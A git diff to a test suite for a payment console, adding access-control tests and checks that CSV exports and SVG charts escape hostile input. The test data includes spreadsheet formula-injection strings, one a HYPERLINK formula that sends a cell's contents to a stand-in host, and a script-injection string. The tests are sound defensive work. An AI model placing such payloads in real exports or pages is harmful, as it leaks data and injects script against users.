@@ -1,6 +1,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { LOCKOUT_SECONDS, LOCKOUT_THRESHOLD } from '../../src/core/console/users.js';
 import { sha256Hex } from '../../src/lib/password.js';
+import { dailyChart } from '../../src/console/chart.js';
 import { testCardNumber } from '../harness.js';
 import { startConsolePier, type Agent, type ConsolePier, type ConsoleUser } from './console-harness.js';
 
@@ -50,6 +51,8 @@ const API_WRITES: Array<[string, string]> = [
   ['POST', '/console/api/keys/rotate'],
   ['POST', '/console/api/payments/imp_000000000000/cancel'],
   ['DELETE', '/console/api/billing-keys/cu_x'],
+  ['DELETE', '/console/api/billing-key?customer_uid=cu_x'],
+  ['POST', '/console/api/schedules/revoke'],
   ['POST', '/console/api/logout'],
 ];
 
@@ -67,7 +70,7 @@ describe('console sign-in and sessions', () => {
       expect(r.json.ok).toBe(false);
     }
     for (const [m, p] of API_WRITES) expect((await anon.api(m, p, {})).status, `${m} ${p}`).toBe(401);
-    for (const p of ['/console/channels', '/console/keys/rotate', '/console/payments/imp_000000000000/cancel', '/console/logout']) {
+    for (const p of ['/console/channels', '/console/keys/rotate', '/console/payments/imp_000000000000/cancel', '/console/billing-key/delete', '/console/schedules/revoke', '/console/logout']) {
       expect((await anon.post(p, { _csrf: 'x' })).status, p).toBe(303);
     }
   });
@@ -426,6 +429,26 @@ describe('payments', () => {
     expect(r.body).not.toContain(ids.bobs);
   });
 
+  it('defuses in the CSV export every leading character OWASP lists (= + - @ tab CR LF) and their full-width forms', async () => {
+    // a buyer types these into the payment window: buyer_name and name are theirs to choose
+    const hostile = ['\n=HYPERLINK("http://x.example/?"&A1)', '\r+1', '\t-1', '＝HYPERLINK("http://x.example")', '＋1+1', '－1+1', '＠SUM(1)', '@SUM(1)'];
+    const paid: string[] = [];
+    for (const [i, v] of hostile.entries()) {
+      const p = await pay(alice, `csv_hostile_${i}`, 1000 + i, { buyer_name: v, name: v });
+      expect(p.status, v).toBe('paid');
+      paid.push(p.imp_uid);
+    }
+    const r = await a.get('/console/payments.csv?q=csv_hostile_');
+    expect(r.status).toBe(200);
+    const body = r.body.replace(/^\uFEFF/, '');
+    for (const [i, v] of hostile.entries()) {
+      const line = body.split('\r\n').find((l) => l.startsWith(`${paid[i]},`))!;
+      // name and buyer_name, RFC 4180-quoted when they hold a quote, CR or LF, start with the apostrophe
+      const cell = /[",\r\n]/.test(v) ? `"'${v.replace(/"/g, '""')}"` : `'${v}`;
+      expect(line.split(cell).length - 1, JSON.stringify(v)).toBe(2);
+    }
+  });
+
   it('shows a payment with its whole V1 object; another merchant\'s payment is not found', async () => {
     const r = await a.get(`/console/payments/${ids.p1}`);
     expect(r.status).toBe(200);
@@ -475,6 +498,11 @@ describe('payments', () => {
     expect((await a.get('/console/api/stats/daily?days=0')).status).toBe(400);
     const dash = await a.get('/console');
     expect(dash.body).toContain('<svg class="chart chart-wide"');
+    expect(dash.body).toContain(`data-day="${today.day}"`);
+    // every attribute of the drawing is escaped, the day too (it is ours, but the page must not trust it)
+    const drawn = dailyChart([{ ...today, day: '2026-01-01"><script>x</script>' }], { volume: 'v', rate: 'r', title: 't' }).toString();
+    expect(drawn).toContain('data-day="2026-01-01&quot;&gt;&lt;script&gt;x&lt;/script&gt;"');
+    expect(drawn).not.toContain('<script>');
   });
 });
 
@@ -524,6 +552,12 @@ describe('billing keys', () => {
     expect((await a.get('/console/billing-keys/cust_bob_1')).status).toBe(404);
     expect((await a.api('DELETE', '/console/api/billing-keys/cust_bob_1')).status).toBe(404);
     expect((await a.post('/console/billing-keys/cust_bob_1/delete')).status).toBe(404);
+    // the forms of decision 0111 (the id in the query or the form) are scoped the same way
+    expect((await a.get('/console/billing-key?customer_uid=cust_bob_1')).status).toBe(404);
+    expect((await a.get('/console/api/billing-key?customer_uid=cust_bob_1')).status).toBe(404);
+    expect((await a.api('DELETE', '/console/api/billing-key?customer_uid=cust_bob_1')).status).toBe(404);
+    expect((await a.post('/console/billing-key/delete', { customer_uid: 'cust_bob_1' })).status).toBe(404);
+    expect((await a.get('/console/billing-key?customer_uid=cust_alice_1')).body).toContain('<input type="hidden" name="customer_uid" value="cust_alice_1">');
     const del = await a.post('/console/billing-keys/cust_alice_1/delete');
     expect(del.status).toBe(303);
     expect((await c.pier.call('GET', '/subscribe/customers/cust_alice_1', { token: await tok(alice) })).body).toMatchObject({ code: 1, response: null });
